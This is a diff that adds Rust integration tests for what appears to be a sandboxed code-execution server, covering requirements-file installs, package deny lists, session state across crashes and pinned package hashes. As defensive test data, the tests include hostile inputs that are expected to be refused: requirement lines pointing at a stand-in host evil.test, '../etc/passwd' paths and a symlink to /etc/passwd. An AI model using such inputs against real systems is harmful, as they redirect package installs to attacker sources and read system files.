@@ -114,6 +114,62 @@ fn a_shell_of_a_session_installs_by_pip_as_a_cell_does() {
 }
 
 #[test]
+fn a_requirements_file_of_a_session_is_installed_by_cells_and_shells() {
+    let server = start(&Data::fresh(), &["packages.deny=[\"tabulate\"]"]);
+    let session = open(&server, &json!({}));
+    let bash = |code: &str| json!({"language": "bash", "code": code});
+    let write = |path: &str, text: &str| {
+        let code = format!(
+            "import pathlib\np = pathlib.Path({path:?})\np.parent.mkdir(exist_ok=True)\np.write_text({text:?})\n0"
+        );
+        assert_eq!(run(&server, &session, &json!({"code": code}))["outcome"], "completed");
+    };
+    let refused = |request: &Value| {
+        let (status, problem) = server.post_json(&format!("{session}/runs"), request);
+        assert_eq!(status, 422, "{problem}");
+        said(&problem)
+    };
+    // Before there is one.
+    let cell = "%pip install -q -r requirements.txt\nimport six; print(six.__version__)";
+    let missing = refused(&json!({"code": cell}));
+    assert!(missing.starts_with("code: line 1: ") && missing.contains("there is no such file"), "{missing}");
+    assert!(refused(&bash("set -e\npip install -r no.txt")).starts_with("code: line 2: "));
+    write("requirements.txt", "# ours\nsix==1.16.0\n");
+    let cells = run(&server, &session, &json!({"code": cell}));
+    assert_eq!(cells["stdout"], "Installed six 1.16.0\n1.16.0\n", "{cells}");
+    write("sub/more.txt", "idna==3.10\n");
+    let shell = "pip install -r /workspace/sub/more.txt && python3 -c 'import idna; print(idna.__version__)'";
+    let shells = run(&server, &session, &bash(shell));
+    assert_eq!(shells["stdout"], "Installed idna 3.10\n3.10\n", "{shells}");
+    // Relative to where the run is, and sent with it.
+    let mut below = bash("pip install -rmore.txt && echo done");
+    below["cwd"] = json!("sub");
+    assert_eq!(run(&server, &session, &below)["stdout"], "Installed idna 3.10\ndone\n");
+    let mut sent = bash("pip install --requirement=sent.txt && echo done");
+    sent["files"] = json!([{"path": "sent.txt", "text": "idna==3.10\n"}]);
+    assert_eq!(run(&server, &session, &sent)["stdout"], "Installed idna 3.10\ndone\n");
+    // What is in it is judged as it is anywhere.
+    for (text, words) in [
+        ("six\ntabulate\n", "packages.deny"),
+        (
+            "six\ngit+https://evil.test/x\n",
+            "files: bad.txt: line 2: git+https://evil.test/x: is a version control",
+        ),
+        ("-r other.txt\n", "option"),
+        ("--index-url https://evil.test\nsix\n", "option"),
+    ] {
+        write("bad.txt", text);
+        let words_of = refused(&json!({"code": "%pip install -r bad.txt"}));
+        assert!(words_of.contains(words), "{text}: {words_of}");
+    }
+    for path in ["../etc/passwd", "/etc/passwd", "link"] {
+        run(&server, &session, &bash("ln -sf /etc/passwd link"));
+        let words = refused(&bash(&format!("pip install -r {path}")));
+        assert!(words.starts_with("code: line 1: "), "{words}");
+    }
+}
+
+#[test]
 fn a_runtime_is_a_language_with_its_version() {
     let server = Server::start(&[]);
     let version = "import sys; print('%d.%d' % sys.version_info[:2])";
@@ -189,9 +245,79 @@ fn what_is_broken_in_a_fork_is_whole_in_the_next() {
         assert_eq!(python(looks).stdout, "[1] None False\n");
     }
     assert_eq!(zygotes(), before, "no zygote died of it");
+    // Control: without a fork for each run, as in a session, the same change is there for the next, and the same crash takes the interpreter along.
+    let session = open(&server, &json!({}));
+    let said = |code: &str| run(&server, &session, &json!({"code": code}))["stdout"].clone();
+    let process = said("import os; print(os.getpid())");
+    assert_eq!(said(changes), "changed\n");
+    let left = "import json, os; print(json.dumps, os.environ.get('LEFT'), os.path.exists('/tmp/left'), os.getpid())";
+    assert_eq!(said(left), format!("None x True {}", process.as_str().unwrap()));
+    let crash = run(&server, &session, &json!({"code": "import ctypes; ctypes.string_at(0)"}));
+    assert_eq!(crash["outcome"], "signalled", "{crash}");
+    let after = said("import os; print(os.environ.get('LEFT'), os.getpid())");
+    let after = after.as_str().unwrap();
+    assert!(after.starts_with("None ") && after != format!("None {}", process.as_str().unwrap()), "{after}");
 }
 
-/// PK-12.
+/// PK-12: a release that was moved, under its old version, is in no template that was built before, and by no run that names its hash.
+#[test]
+fn a_release_that_was_moved_is_not_in_what_was_built_of_it() {
+    let data = Data::fresh();
+    let place = data.path().join("index");
+    let mut making =
+        Command::new("python3").args(["-c", MAKE_INDEX]).arg(&place).stdout(Stdio::piped()).spawn().unwrap();
+    let mut port = String::new();
+    BufReader::new(making.stdout.take().unwrap()).read_line(&mut port).unwrap();
+    let address = format!("localhost:{}", port.trim());
+    let settings = [
+        format!("packages.indexes=[\"http://{address}/simple\"]"),
+        format!("packages.hosts=[\"{address}\", \"pypi.org\", \"files.pythonhosted.org\"]"),
+        index().replace(']', ",\"127.0.0.0/8\",\"::1/128\"]"),
+    ];
+    let arguments: Vec<&str> = settings.iter().flat_map(|setting| ["--set", setting]).collect();
+    let server = Server::start_in(&data, &arguments);
+    let build = || {
+        let definition = json!({"name": "pinned", "base": "python", "packages": ["six==0.0.1"]});
+        let (status, built) = server.post_json("/v1/templates", &definition);
+        assert!(status < 300, "{status} {built}");
+        built["version"].clone()
+    };
+    let first = build();
+    let hash = hash_of(&place);
+    // The same name, the same version, another content.
+    let (again, _) = MAKE_INDEX.split_once("import http.server").unwrap();
+    let again = again.replace("PY3 = 2", "PY3 = 666").replace("parents=True", "parents=True, exist_ok=True");
+    assert!(Command::new("python3").args(["-c", &again]).arg(&place).status().unwrap().success());
+    let of_template =
+        json!({"language": "python", "template": "pinned", "code": "import six; print(six.PY3)"});
+    assert_eq!(completed(&server, &of_template).stdout, "2\n");
+    assert_eq!(build(), first);
+    assert_eq!(completed(&server, &of_template).stdout, "2\n");
+    let by_hash = format!("six==0.0.1 --hash=sha256:{hash}");
+    let request = |package: &str| json!({"language": "python", "code": "import six; print(six.PY3)", "packages": [package]});
+    let problem = rejected(&server, &request(&by_hash));
+    assert!(said(&problem).contains("has no file with a hash that was asked for"), "{problem}");
+    // Controls: without template and hash the moved one comes in, here and by plain uv.
+    assert_eq!(completed(&server, &request("six==0.0.1")).stdout, "666\n");
+    let target = data.path().join("plain");
+    let mut install = Command::new(uv(&data));
+    install.args(["pip", "install", "--quiet", "--no-cache", "--python", "python3", "--index"]);
+    install.arg(format!("http://{address}/simple")).arg("six==0.0.1").arg("--target").arg(&target);
+    let output = install.env("UV_SYSTEM_CERTS", "true").env("UV_NATIVE_TLS", "true").output().unwrap();
+    assert!(output.status.success(), "{output:?}");
+    assert_eq!(std::fs::read_to_string(target.join("six.py")).unwrap(), "PY3 = 666\n");
+    making.kill().unwrap();
+    making.wait().unwrap();
+}
+
+/// The digest that the page of an index has for its only file.
+fn hash_of(index: &std::path::Path) -> String {
+    let page = std::fs::read_to_string(index.join("simple/six/index.html")).unwrap();
+    let (_, rest) = page.split_once("#sha256=").unwrap();
+    rest[..64].to_owned()
+}
+
+/// PK-12: a newer release is in a template only where its build is told to take it, and that build says so.
 #[test]
 fn a_template_stays_what_it_was_and_building_it_anew_says_what_is_another() {
     let data = Data::fresh();
